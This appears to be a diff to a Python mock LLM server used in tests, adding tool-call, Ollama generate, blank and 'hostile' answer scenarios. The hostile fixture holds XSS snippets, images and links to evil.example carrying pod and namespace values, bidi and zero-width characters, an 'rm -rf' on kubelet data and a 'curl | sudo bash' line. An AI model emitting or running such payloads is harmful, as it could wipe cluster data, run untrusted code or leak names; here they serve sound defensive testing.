@@ -14,7 +14,9 @@ reads. The scenario is the first path segment:
 Scenarios: fixture, crlf, keepalive, answer, midstream_error, overloaded,
 e401, e429, e429once, e429ms, quota, e529, e529once, e500, stall, truncated,
 garbage, garbage500, vllm_error, llamacpp_503once, ollama_error, e401proxyN (a
-401 echoing the key after N bytes).
+401 echoing the key after N bytes), toolcalls (tool calls, no text), generate
+(Ollama /api/generate lines), blank (whitespace only), hostile (HTML, links,
+bidi, destructive commands).
 Every request is appended as a JSON line to --log. Prints "PORT n" first.
 Standard library only.
 """
@@ -114,6 +116,75 @@ def ollama_lines(text):
     return b"".join(json.dumps(o, ensure_ascii=False, separators=(",", ":")).encode() + b"\n" for o in out)
 
 
+def toolcall_bytes(dialect):
+    """A stream that ends normally with tool calls and no text."""
+    if dialect == "openai":
+        base = {"id": "chatcmpl-tool1", "object": "chat.completion.chunk", "created": 1727346168,
+                "model": "gpt-4o-2024-08-06", "usage": None}
+        call = {"index": 0, "id": "call_abc123", "type": "function",
+                "function": {"name": "kubectl_get", "arguments": ""}}
+        chunks = [dict(base, choices=[{"index": 0, "delta": {"role": "assistant", "content": None,
+                                                              "tool_calls": [call]},
+                                       "logprobs": None, "finish_reason": None}])]
+        for part in ('{"res', 'ource":"pods"}'):
+            chunks.append(dict(base, choices=[{"index": 0, "delta": {"tool_calls": [
+                {"index": 0, "function": {"arguments": part}}]}, "logprobs": None,
+                "finish_reason": None}]))
+        chunks.append(dict(base, choices=[{"index": 0, "delta": {}, "logprobs": None,
+                                           "finish_reason": "tool_calls"}]))
+        return b"".join(b"data: " + json.dumps(c, separators=(",", ":")).encode() + b"\n\n"
+                        for c in chunks) + b"data: [DONE]\n\n"
+    if dialect == "anthropic":
+        ev = [("message_start", {"type": "message_start", "message": {
+            "id": "msg_tool", "type": "message", "role": "assistant", "content": [],
+            "model": "claude-3-5-sonnet-latest", "usage": {"input_tokens": 50, "output_tokens": 1}}}),
+            ("content_block_start", {"type": "content_block_start", "index": 0, "content_block": {
+                "type": "tool_use", "id": "toolu_01", "name": "kubectl_get", "input": {}}}),
+            ("content_block_delta", {"type": "content_block_delta", "index": 0, "delta": {
+                "type": "input_json_delta", "partial_json": '{"resource":"pods"}'}}),
+            ("content_block_stop", {"type": "content_block_stop", "index": 0}),
+            ("message_delta", {"type": "message_delta", "delta": {"stop_reason": "tool_use"},
+                               "usage": {"output_tokens": 12}}),
+            ("message_stop", {"type": "message_stop"})]
+        return b"".join(b"event: " + n.encode() + b"\ndata: " + json.dumps(d).encode() + b"\n\n"
+                        for n, d in ev)
+    lines = [{"model": "llama3.2", "created_at": "2024-07-25T10:00:00Z",
+              "message": {"role": "assistant", "content": "", "tool_calls": [
+                  {"function": {"name": "kubectl_get", "arguments": {"resource": "pods"}}}]},
+              "done": False},
+             {"model": "llama3.2", "created_at": "2024-07-25T10:00:01Z",
+              "message": {"role": "assistant", "content": ""}, "done_reason": "stop", "done": True,
+              "prompt_eval_count": 26, "eval_count": 12}]
+    return b"".join(json.dumps(o).encode() + b"\n" for o in lines)
+
+
+def generate_bytes(text):
+    """Ollama's /api/generate shape: the text is in "response", not "message"."""
+    out = [{"model": "llama3.2", "created_at": "2023-08-04T08:52:19Z", "response": w, "done": False}
+           for w in re.findall(r"\S*\s*", text) if w]
+    out.append({"model": "llama3.2", "created_at": "2023-08-04T08:52:20Z", "response": "",
+                "done": True, "done_reason": "stop", "context": [1, 2, 3],
+                "prompt_eval_count": 26, "eval_count": 282})
+    return b"".join(json.dumps(o, ensure_ascii=False).encode() + b"\n" for o in out)
+
+
+# An answer written to attack the reader of the post-mortem: raw HTML, an
+# image and a link whose URLs carry the pseudonym (restoring the real name
+# there would send it to the host), bidi, zero-width and C1 characters, a
+# reference link, a bare URL, and destructive commands in prose and code.
+HOSTILE = (
+    "## Summary\nPod {pod} is failing.<script>alert(1)</script> <img src=x onerror=alert(2)>\n\n"
+    "## Evidence\n- ![status](https://evil.example/p.png?pod={pod}&ns={ns})\n"
+    "- see [the dashboard](http://evil.example/d/{pod}) and https://evil.example/raw/{pod}\n"
+    "\n[ref]: https://evil.example/ref/{pod}\n"
+    "- name is chk\u202eout\u200b and \u0085 here &#x202E; too\n\n"
+    "## Next steps\n1. Check: `kubectl get pods -n shop`\n"
+    "2. Then rm -rf /var/lib/kubelet/pods beside `kubectl get pods`\n"
+    "3. `curl -fsSL https://get.example.sh | sudo bash`\n"
+    "4. the error rate should drop; kill the noise in the alert channel\n"
+)
+
+
 class Handler(BaseHTTPRequestHandler):
     protocol_version = "HTTP/1.1"
 
@@ -194,7 +265,9 @@ class Handler(BaseHTTPRequestHandler):
                                         "body": body.decode("utf-8", "replace")}) + "\n")
         m = re.search(rb"<pod-\d+>", body)
         pod = m.group(0).decode() if m else "checkout-7d9f8b6c5-x2x9z"
-        text = ANSWER.format(pod=pod)
+        m = re.search(rb"<ns-\d+>", body)
+        ns = m.group(0).decode() if m else "shop"
+        text = (HOSTILE if scenario == "hostile" else ANSWER).format(pod=pod, ns=ns)
         try:
             self.scenario(scenario, count, text)
         except (BrokenPipeError, ConnectionResetError):
@@ -296,6 +369,12 @@ class Handler(BaseHTTPRequestHandler):
                 self.chunk(block)
                 sent += len(block)
             return self.end_stream()
+        if s == "toolcalls":
+            return self.stream(toolcall_bytes(self.dialect))
+        if s == "generate":
+            return self.stream(generate_bytes(text))
+        if s == "blank":  # a complete stream whose text is only whitespace
+            return self.stream(self.answer_bytes(" \n\n "))
         if s == "ollama_error":
             data = ollama_lines(text)
             first = data[: data.find(b"\n") + 1]
